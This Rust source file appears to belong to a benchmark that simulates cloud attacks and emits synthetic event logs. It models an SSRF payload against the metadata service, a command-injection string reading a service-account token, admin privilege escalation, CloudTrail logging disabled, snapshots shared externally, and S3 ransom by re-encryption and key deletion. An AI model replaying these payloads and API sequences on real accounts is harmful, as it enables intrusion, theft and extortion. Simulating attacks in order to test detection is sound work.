//! Attacks that end in the cloud.

use serde_json::json;

use super::{Play, Pod};
use crate::storybench::records::{By, Call, session};
use crate::storybench::requests::{Answer, Ask, METADATA};
use crate::storybench::tenant::NODE_ROLE;
use crate::storybench::world::{MS, SECOND};

const ADMINISTRATOR: &str = "arn:aws:iam::aws:policy/AdministratorAccess";

/// A forged request takes the machine's credential; an administrator is made with it, whose key
/// reads the bucket.
pub(super) fn ssrf_to_bucket(play: &mut Play<'_>) {
    let Some(pod) = play.target() else { return };
    let forge = play.step("forged request", None);
    let role = format!("/latest/meta-data/iam/security-credentials/{NODE_ROLE}");
    let at = play.then(10 * MS);
    let key = play.world.instance_key(pod.node, at);
    fetch_by_forged_request(play, &pod, ("/latest/meta-data/iam/security-credentials/", None));
    let fetch = play.step("credentials fetched", Some(forge));
    fetch_by_forged_request(play, &pod, (&role, Some(&key)));
    let instance = play.world.instance(pod.node);
    let by = By::Role(NODE_ROLE, &instance);
    let who = play.step("who am I", Some(fetch));
    play.who_am_i(by, &key);
    let user = format!("svc-{}", play.id.0);
    let minted = play.key("AKIA", 1);
    let made = play.step("user made", Some(who));
    let request = json!({ "userName": user });
    let call = Call { service: "iam", by, key: &key, ..Call::default() };
    let response = json!({ "user": { "userName": user } });
    play.call(&Call { action: "CreateUser", request: request.clone(), response, ..call.clone() });
    let raised = play.step("user made administrator", Some(made));
    let policy = json!({ "userName": user, "policyArn": ADMINISTRATOR });
    play.call(&Call { action: "AttachUserPolicy", request: policy, ..call.clone() });
    let keyed = play.step("key made", Some(raised));
    let response =
        json!({ "accessKey": { "accessKeyId": minted, "userName": user, "status": "Active" } });
    play.call(&Call { action: "CreateAccessKey", request, response, ..call });
    let by = By::User(&user);
    let listed = play.step("buckets listed", Some(keyed));
    play.call(&Call { service: "s3", action: "ListBuckets", by, key: &minted, ..Call::default() });
    play.step("objects read", Some(listed));
    for number in 0..20 {
        let request = json!({ "bucketName": "customers", "key": format!("part-{number}.parquet") });
        play.call(&Call {
            service: "s3",
            action: "GetObject",
            by,
            key: &minted,
            request,
            ..Call::default()
        });
    }
}

/// The application is made to ask the metadata service while it handles a request.
fn fetch_by_forged_request(play: &mut Play<'_>, pod: &Pod, (path, key): (&str, Option<&str>)) {
    let at = play.then(10 * MS);
    let target = format!("/preview?url=http://169.254.169.254{path}");
    let client = play.client();
    let http = play.world.asked(at, pod.server, client, Ask { target: &target, ..Ask::default() });
    play.world.connect(at + 2 * MS, pod.server, METADATA);
    let ask = Ask { host: "169.254.169.254", target: path, ..Ask::default() };
    let inner = play.world.asks(at + 3 * MS, pod.server, METADATA, ask);
    let credential = key.map(|key| (key, NODE_ROLE));
    let body = if key.is_some() { "{\"Code\":\"Success\"}" } else { NODE_ROLE };
    let answer = Answer { credential, body, ..Answer::default() };
    play.world.answered(at + 5 * MS, pod.server, inner, answer);
    play.world.answered(at + 8 * MS, pod.server, http, Answer { body, ..Answer::default() });
}

/// A command in a request reads the token of the pod's role, which reads the secrets from outside.
pub(super) fn rce_to_secrets(play: &mut Play<'_>) {
    let Some(pod) = play.target() else { return };
    let command = "id; cat /var/run/secrets/eks.amazonaws.com/serviceaccount/token";
    let exploit = play.step("command in a request", None);
    let shell = play.exploit(&pod, "/jobs?name=%3Bid%3B", command);
    let explored = play.step("system explored", Some(exploit));
    for argv in [&["id"][..], &["uname", "-a"], &["env"]] {
        play.run(shell, argv);
    }
    let token = play.step("token read", Some(explored));
    let path = "/var/run/secrets/eks.amazonaws.com/serviceaccount/token";
    let at = play.then(50 * MS);
    let cat = play.world.run(at, shell, &["cat", path]);
    play.world.open(at + MS, cat, path, 0);
    play.world.stop(at + 2 * MS, cat);
    let opened = play.step("role taken", Some(token));
    let (key, from) = (play.key("ASIA", 1), play.attacker.to_string());
    let at = play.then(SECOND);
    play.world.assume_by_pod(at, &pod, &from, &key);
    let (role, name) = (format!("app-{}", pod.app), format!("{}-session", pod.app));
    let by = By::Role(&role, &name);
    let who = play.step("who am I", Some(opened));
    play.who_am_i(by, &key);
    let call = Call { service: "secretsmanager", by, key: &key, ..Call::default() };
    let listed = play.step("secrets listed", Some(who));
    play.call(&Call { action: "ListSecrets", ..call.clone() });
    play.step("secrets read", Some(listed));
    for number in 0..14 {
        let request = json!({ "secretId": format!("prod/{number}") });
        play.call(&Call { action: "GetSecretValue", request, ..call.clone() });
    }
}

/// The key of a pipeline is used from elsewhere: a way back in is made, and the log silenced.
pub(super) fn leaked_pipeline_key(play: &mut Play<'_>) {
    let key = crate::storybench::tenant::key("AKIA", &[u64::from(play.world.tenant), 77]);
    let by = By::User("ci-deploy");
    let call = Call { service: "iam", by, key: &key, ..Call::default() };
    let who = play.step("who am I", None);
    play.who_am_i(by, &key);
    let listed = play.step("users listed", Some(who));
    play.call(&Call { action: "ListUsers", ..call.clone() });
    let raised = play.step("own rights raised", Some(listed));
    let request = json!({ "userName": "ci-deploy", "policyArn": ADMINISTRATOR });
    play.call(&Call { action: "AttachUserPolicy", request, ..call.clone() });
    let keyed = play.step("key made for another", Some(raised));
    let user = format!("legacy-{}", play.id.0);
    let minted = play.key("AKIA", 1);
    let response =
        json!({ "accessKey": { "accessKeyId": minted, "userName": user, "status": "Active" } });
    let request = json!({ "userName": user });
    play.call(&Call { action: "CreateAccessKey", request, response, ..call.clone() });
    let silenced = play.step("log silenced", Some(keyed));
    let request = json!({ "name": "organization" });
    play.call(&Call { service: "cloudtrail", action: "StopLogging", request, ..call });
    play.step("disk shared", Some(silenced));
    let request = json!({ "snapshotId": "snap-1", "attributeType": "CREATE_VOLUME_PERMISSION",
        "createVolumePermission": { "add": { "items": [{ "userId": "999999999999" }] } } });
    let by = By::User(&user);
    play.call(&Call {
        service: "ec2",
        action: "ModifySnapshotAttribute",
        by,
        key: &minted,
        request,
        ..Call::default()
    });
}

/// A leaked key encrypts a bucket with a key of its own and leaves a note.
pub(super) fn bucket_ransom(play: &mut Play<'_>) {
    let key = play.key("AKIA", 9);
    let name = format!("backup-{}", play.id.0);
    let by = By::User(&name);
    let call = Call { service: "s3", by, key: &key, ..Call::default() };
    let who = play.step("who am I", None);
    play.who_am_i(by, &key);
    let listed = play.step("buckets listed", Some(who));
    play.call(&Call { action: "ListBuckets", ..call.clone() });
    let suspended = play.step("versions switched off", Some(listed));
    let request =
        json!({ "bucketName": "customers", "VersioningConfiguration": { "Status": "Suspended" } });
    play.call(&Call { action: "PutBucketVersioning", request, ..call.clone() });
    let encrypted = play.step("objects encrypted", Some(suspended));
    for number in 0..20 {
        let request = json!({ "bucketName": "customers", "key": format!("part-{number}.parquet"),
            "x-amz-server-side-encryption-customer-algorithm": "AES256" });
        play.call(&Call { action: "CopyObject", request, ..call.clone() });
    }
    let destroyed = play.step("key to be destroyed", Some(encrypted));
    let request = json!({ "keyId": "0e5d0ab6", "pendingWindowInDays": 7 });
    play.call(&Call { service: "kms", action: "ScheduleKeyDeletion", request, ..call.clone() });
    play.step("note left", Some(destroyed));
    let request = json!({ "bucketName": "customers", "key": "HOW_TO_RECOVER.txt" });
    play.call(&Call { action: "PutObject", request, ..call });
}

/// From a leaked key through the roles of three accounts to a copy of a disk.
pub(super) fn role_chain(play: &mut Play<'_>) {
    let first = play.step("who am I", None);
    let user = format!("build-{}", play.id.0);
    let mut key = play.key("AKIA", 8);
    play.who_am_i(By::User(&user), &key);
    let mut before = first;
    let (mut role, mut name) = (String::new(), String::new());
    for account in 0..3_u32 {
        let step = ["first role taken", "second role taken", "third role taken"];
        let step = step.get(account as usize).copied().unwrap_or_default();
        before = play.step(step, Some(before));
        let next_role = format!("hop-{account}");
        let next_name = format!("deploy-{}", play.id.0);
        let next_key = play.key("ASIA", u64::from(account));
        let number = play.world.account(account);
        let request = json!({ "roleArn": format!("arn:aws:iam::{number}:role/{next_role}"), "roleSessionName": next_name });
        let response = session(&number, (&next_role, &next_name), &next_key);
        let by = if account == 0 { By::User(&user) } else { By::Role(&role, &name) };
        play.call(&Call {
            action: "AssumeRole",
            by,
            key: &key,
            account: account.saturating_sub(1),
            request,
            response,
            ..Call::default()
        });
        (role, name, key) = (next_role, next_name, next_key);
    }
    let call = Call { by: By::Role(&role, &name), key: &key, account: 2, ..Call::default() };
    let listed = play.step("machines listed", Some(before));
    play.call(&Call { service: "ec2", action: "DescribeSnapshots", ..call.clone() });
    play.step("disk shared", Some(listed));
    let request = json!({ "snapshotId": "snap-2", "attributeType": "CREATE_VOLUME_PERMISSION",
        "createVolumePermission": { "add": { "items": [{ "userId": "999999999999" }] } } });
    play.call(&Call { service: "ec2", action: "ModifySnapshotAttribute", request, ..call });
}
